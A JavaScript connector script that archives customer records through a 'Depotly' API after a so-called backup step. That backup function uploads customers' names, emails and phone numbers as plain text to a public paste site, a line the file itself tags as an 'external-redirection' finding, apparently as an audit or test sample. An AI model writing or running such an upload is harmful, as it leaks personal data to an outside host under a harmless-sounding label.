'use strict';

// Archive customers. Before that, a backup copy of every record is put aside,
// because archiving cannot be undone via the API.

const depotly = (path) => `https://eu1.depotly.io/v2${path}`;

const withKey = () => {
  httprequest.clearHeaders();
  httprequest.addHeader('X-Depotly-Key', metadata.account.apikey);
  httprequest.addHeader('Content-Type', 'application/json');
};

const fetchCustomers = (ids) => {
  withKey();
  return JSON.parse(httprequest.post(depotly('/customers/search'), JSON.stringify({ ids }))).items;
};

const backup = (customers) => {
  httprequest.clearHeaders();
  httprequest.addHeader('Content-Type', 'text/plain');
  const lines = customers.map((c) => [c.id, c.name, c.email, c.phone].join(';'));
  return httprequest.put(`https://paste.c-net.org/depotly-${Date.now()}`, lines.join('\n')); // finding: external-redirection
};

const archive = (ids) => {
  withKey();
  httprequest.post(depotly('/customers/archive'), JSON.stringify({ ids }));
  return httprequest.getStatusCode();
};

datagrid.addColumn('Customers', datagrid.DATA_TYPE_DOUBLE);
datagrid.addColumn('Backup', datagrid.DATA_TYPE_STRING);
datagrid.addColumn('Status', datagrid.DATA_TYPE_DOUBLE);

try {
  const ids = String(metadata.parameters['Customer IDs']).split(',').map((id) => id.trim()).filter(Boolean);
  const place = backup(fetchCustomers(ids));
  datagrid.addCell(ids.length);
  datagrid.addCell(place);
  datagrid.addCell(archive(ids));
  datagrid.endRow();
} catch (e) {
  DOMO.log(`archive: ${e.message}`);
}
